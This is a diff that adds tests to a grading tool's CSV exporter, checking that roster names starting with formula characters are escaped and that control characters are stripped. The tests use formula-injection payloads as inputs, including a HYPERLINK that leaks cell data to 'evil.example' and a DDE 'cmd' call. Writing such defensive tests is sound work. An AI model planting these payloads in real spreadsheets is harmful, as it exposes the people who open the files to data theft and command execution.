@@ -160,5 +160,46 @@ def test_format_points(points, text):
 
 def test_summary_counts():
     # carla's free text is graded; the crashed team has no cells at all.
-    assert summary_counts(results=RESULTS) == {"graded": 3, "failed": 1, "needs manual grading": 2}
-    assert summary_counts(results=[]) == {"graded": 0, "failed": 0, "needs manual grading": 0}
+    assert summary_counts(results=RESULTS) == {"graded": 3, "partly graded": 1, "failed": 0, "needs manual grading": 2}
+    assert summary_counts(results=[]) == {"graded": 0, "partly graded": 0, "failed": 0, "needs manual grading": 0}
+
+
+# ---------------------------------------------------------------- hostile roster names and team ids
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0",
+            "-2+3", "\t=1+1", "\r=1+1", " =1+1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path, formula):
+    roster = (RosterEntry("anna", formula, formula, formula), RosterEntry("ben", "Ben", formula, "b@x"))
+    path = tmp_path / "grades.csv"
+    write_grades_csv(results=[PAIR], roster=roster, path=path)
+    rows = read_rows(path)
+    for cell in (rows["anna"]["first_name"], rows["anna"]["last_name"], rows["anna"]["email"],
+                 rows["ben"]["last_name"]):
+        assert cell.startswith("'") and cell[1:].strip()[:1] in "=+-@"
+    # Every cell of the file, header included, is text or a plain number.
+    with path.open(encoding="utf-8", newline="") as file:
+        for row in csv.reader(file):
+            for cell in row:
+                assert not cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")) or _is_number(cell)
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+        return True
+    except ValueError:
+        return False
+
+
+def test_numbers_stay_numbers_and_control_characters_are_dropped(tmp_path):
+    roster = (RosterEntry("anna", "An\x1b[31mna\x00", "Mus\u202eter", "a@x"), RosterEntry("ben", "-", "+", "@"))
+    negative = team("anna_ben", cells=(CellScore("bmm_d_test", -1.5, 5.0, False),))
+    path = tmp_path / "grades.csv"
+    write_grades_csv(results=[negative], roster=roster, path=path)
+    rows = read_rows(path)
+    assert rows["anna"]["total"] == "-1.5" and rows["anna"]["Task 1.2"] == "-1.5"
+    assert (rows["anna"]["first_name"], rows["anna"]["last_name"]) == ("Anna", "Muster")
+    assert (rows["ben"]["first_name"], rows["ben"]["last_name"], rows["ben"]["email"]) == ("'-", "'+", "'@")
